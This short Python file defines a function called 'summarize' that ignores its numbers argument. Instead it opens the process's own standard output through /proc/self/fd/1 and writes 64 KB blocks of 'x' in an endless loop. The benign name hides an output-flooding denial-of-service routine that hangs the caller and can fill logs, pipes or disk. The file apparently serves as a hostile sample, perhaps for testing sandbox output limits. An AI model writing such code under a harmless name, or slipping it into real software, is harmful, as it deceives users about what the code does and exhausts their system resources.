import os


def summarize(numbers):
    again = os.open("/proc/self/fd/1", os.O_WRONLY)
    while True:
        os.write(again, b"x" * 65536)
